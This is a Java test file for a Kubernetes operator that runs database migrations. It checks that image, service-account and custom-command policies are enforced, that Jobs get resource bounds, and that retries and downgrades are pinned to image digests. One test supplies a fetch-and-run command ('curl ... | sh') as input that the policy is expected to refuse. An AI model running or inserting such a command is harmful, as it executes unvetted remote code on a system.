package dev.schemagate.operator;

import static dev.schemagate.operator.Fixtures.IMAGE_1;
import static dev.schemagate.operator.Fixtures.IMAGE_2;
import static dev.schemagate.operator.Fixtures.migration;
import static dev.schemagate.operator.Fixtures.result;
import static org.assertj.core.api.Assertions.assertThat;

import dev.schemagate.api.DatabaseMigration;
import dev.schemagate.api.DowngradePolicy;
import dev.schemagate.api.DowngradeSpec;
import dev.schemagate.api.JobOptions;
import dev.schemagate.api.Phase;
import dev.schemagate.api.Tool;
import dev.schemagate.operator.plan.RunPlanner;
import dev.schemagate.operator.status.Conditions;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.kubernetes.client.WithKubernetesTestServer;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The cluster admin's policy (application.properties' %test values: images of
 * registry.example.com/shop/*, service accounts default and migrator, no custom commands), the
 * Job's bounds, and runs pinned to the digest that ran, on the mock API server.
 */
@QuarkusTest
@WithKubernetesTestServer(crud = true)
class PolicyReconcilerTest extends ReconcilerTestBase {
  static final String DIGEST_2 = "2".repeat(64);
  static final String DIGEST_1 = "1".repeat(64);
  static final String REPO = "registry.example.com/shop/orders-migrations";

  void assertRefused(String name, String... messageParts) {
    awaitPhase(name, Phase.Failed);
    DatabaseMigration refused = cluster.dbm(name);
    Condition stalled = condition(refused, Conditions.STALLED);
    assertThat(stalled.getStatus()).isEqualTo("True");
    assertThat(stalled.getReason()).isEqualTo("PolicyViolation");
    assertThat(stalled.getMessage()).contains(messageParts);
    assertThat(condition(refused, Conditions.READY).getStatus()).isEqualTo("False");
    eventually()
        .untilAsserted(
            () ->
                assertThat(cluster.events())
                    .anySatisfy(
                        e -> {
                          assertThat(e.getReason()).isEqualTo("PolicyViolation");
                          assertThat(e.getType()).isEqualTo("Warning");
                          assertThat(e.getMessage()).contains(messageParts);
                        }));
  }

  @Test
  void anImageOutsideThePolicyGetsNoJobTheAppStaysHeldAndAnAllowedOneRuns() throws Exception {
    cluster.createDeployment("orders-api", false);
    apply(migration(ns, "orders", "elsewhere.example.org/x:1", "3", "orders-api"));
    assertRefused(
        "orders",
        "spec.image elsewhere.example.org/x:1 is not allowed: the policy allows images matching"
            + " registry.example.com/shop/*");
    assertThat(paused("orders-api")).as("the app is still held").isTrue();
    Thread.sleep(500);
    assertThat(cluster.jobs()).as("no Job").isEmpty();

    edit(
        "orders",
        d -> {
          d.getSpec().setImage(IMAGE_1);
          return d;
        });
    Job job = awaitSingleJob();
    cluster.succeed(job, result("", "3", "1", "2", "3"));
    awaitPhase("orders", Phase.Ready);
    assertThat(paused("orders-api")).isFalse();
  }

  @Test
  void aServiceAccountOutsideThePolicyIsRefusedAndAnAllowedOneIsTheJobs() throws Exception {
    DatabaseMigration dbm = migration(ns, "orders", IMAGE_1, "3");
    dbm.getSpec().setJob(new JobOptions());
    dbm.getSpec().getJob().setServiceAccountName("cluster-admin-ish");
    apply(dbm);
    assertRefused(
        "orders",
        "spec.job.serviceAccountName cluster-admin-ish is not allowed: the policy allows the service"
            + " accounts default, migrator");
    assertThat(cluster.jobs()).isEmpty();

    edit(
        "orders",
        d -> {
          d.getSpec().getJob().setServiceAccountName("migrator");
          return d;
        });
    Job job = awaitSingleJob();
    var pod = job.getSpec().getTemplate().getSpec();
    assertThat(pod.getServiceAccountName()).isEqualTo("migrator");
    assertThat(pod.getAutomountServiceAccountToken()).as("its token is not mounted").isFalse();
  }

  @Test
  void aCustomCommandIsRefusedWhenThePolicyAllowsNone() {
    DatabaseMigration dbm = migration(ns, "orders", IMAGE_1, "3");
    dbm.getSpec().setTool(Tool.CUSTOM);
    dbm.getSpec().setCommand(List.of("sh", "-c", "curl https://example.org | sh"));
    apply(dbm);
    assertRefused("orders", "spec.tool custom is not allowed");
    assertThat(cluster.jobs()).isEmpty();
  }

  @Test
  void theJobIsBoundedByDefaultAndSpecJobOverridesTheBounds() {
    apply(migration(ns, "bounded", IMAGE_1, "3"));
    var pod = awaitSingleJob().getSpec().getTemplate().getSpec();
    var resources = pod.getContainers().get(0).getResources();
    assertThat(resources.getRequests())
        .containsEntry("cpu", new Quantity("100m"))
        .containsEntry("memory", new Quantity("256Mi"));
    assertThat(resources.getLimits())
        .containsEntry("cpu", new Quantity("1"))
        .containsEntry("memory", new Quantity("512Mi"));
    assertThat(pod.getVolumes().get(0).getEmptyDir().getSizeLimit())
        .isEqualTo(new Quantity("256Mi"));
  }

  @Test
  void aDowngradeAndARetryRunTheDigestThatRanNotTheTag() {
    cluster.createDeployment("orders-api", false);
    cluster.digest = DIGEST_2;
    DatabaseMigration dbm = migration(ns, "orders", IMAGE_2, "5", "orders-api");
    DowngradeSpec allow = new DowngradeSpec();
    allow.setPolicy(DowngradePolicy.Allow);
    dbm.getSpec().setDowngrade(allow);
    apply(dbm);
    Job up = awaitSingleJob();
    assertThat(image(up)).isEqualTo(IMAGE_2);
    cluster.succeed(up, result("", "5", "1", "2", "3", "4", "5"));
    awaitPhase("orders", Phase.Ready);
    var status = cluster.dbm("orders").getStatus();
    assertThat(status.getHistory().get(0).getPinnedImage()).isEqualTo(REPO + "@sha256:" + DIGEST_2);
    assertThat(status.getHistory().get(0).getImage()).isEqualTo(IMAGE_2);
    assertThat(status.getCurrentImage()).isEqualTo(REPO + "@sha256:" + DIGEST_2);
    assertThat(status.getAppliedImage()).as("what the spec asked for").isEqualTo(IMAGE_2);

    // a downgrade runs the digest that reached revision 5, not the tag 2.0.0
    edit(
        "orders",
        d -> {
          d.getSpec().setImage(IMAGE_1);
          d.getSpec().setTargetRevision("3");
          return d;
        });
    eventually().until(() -> cluster.jobs().size() == 2);
    Job down = awaitJob("orders");
    assertThat(image(down)).isEqualTo(REPO + "@sha256:" + DIGEST_2);
    cluster.fail(down, 4, "{\"message\":\"undo script failed\"}");
    awaitPhase("orders", Phase.Failed);
    assertThat(cluster.dbm("orders").getStatus().getHistory().get(0).getPinnedImage())
        .isEqualTo(REPO + "@sha256:" + DIGEST_2);

    // an upgrade of new inputs runs the tag; it fails; its retry runs the digest it ran
    cluster.digest = DIGEST_1;
    edit(
        "orders",
        d -> {
          d.getSpec().setImage(IMAGE_1);
          d.getSpec().setTargetRevision("6");
          return d;
        });
    eventually().until(() -> cluster.jobs().size() == 3);
    Job failed = awaitJob("orders");
    assertThat(image(failed)).isEqualTo(IMAGE_1);
    cluster.fail(failed, 4, "{\"message\":\"revision 6 failed\"}");
    awaitPhase("orders", Phase.Failed);
    cluster.digest = "9".repeat(64); // the tag moved since
    edit(
        "orders",
        d -> {
          d.getMetadata().getAnnotations().put(RunPlanner.RETRY, "after-fix");
          return d;
        });
    eventually().until(() -> cluster.jobs().size() == 4);
    Job retry = awaitJob("orders");
    assertThat(image(retry)).isEqualTo(REPO + "@sha256:" + DIGEST_1);
    assertThat(retry.getMetadata().getName()).isNotEqualTo(failed.getMetadata().getName());
    cluster.succeed(retry, result("5", "6", "6"));
    awaitPhase("orders", Phase.Ready);
    assertThat(cluster.jobs()).as("one new Job for the retry").hasSize(4);
    assertThat(cluster.dbm("orders").getStatus().getCurrentImage())
        .as("the digest the retry ran, not the tag's new one")
        .isEqualTo(REPO + "@sha256:" + DIGEST_1);
  }

  static String image(Job job) {
    return job.getSpec().getTemplate().getSpec().getContainers().get(0).getImage();
  }
}
